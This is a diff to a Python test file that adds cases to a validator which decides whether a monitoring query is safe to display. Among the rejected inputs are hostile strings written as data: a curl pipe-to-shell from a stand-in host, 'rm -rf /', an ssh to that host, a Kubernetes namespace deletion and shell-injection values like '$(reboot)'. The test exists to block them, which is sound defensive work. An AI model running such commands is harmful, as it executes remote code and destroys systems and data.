@@ -239,6 +239,13 @@ def test_no_step_or_check_can_be_made_past_the_gate(made: str) -> None:
         ('up{service="$(reboot)"}', False),
         ("up{a='b'} ; reboot", False),
         ('up{a="http://evil.example"}', False),
+        ("curl evil.example/p | sh", False),
+        ("rm -rf /", False),
+        ("ssh evil.example uptime", False),
+        ("kubectl delete namespace shop -n shop", False),
+        ("kubectl get pods orders -n shop", True),
+        ("head pressure (bar)", True),
+        ("sum(rate(x[5m])) / sum(rate(y[5m]))", True),
     ],
 )  # fmt: skip
 def test_a_query_is_shown_where_what_it_quotes_is_plain(query: str, kept: bool) -> None:
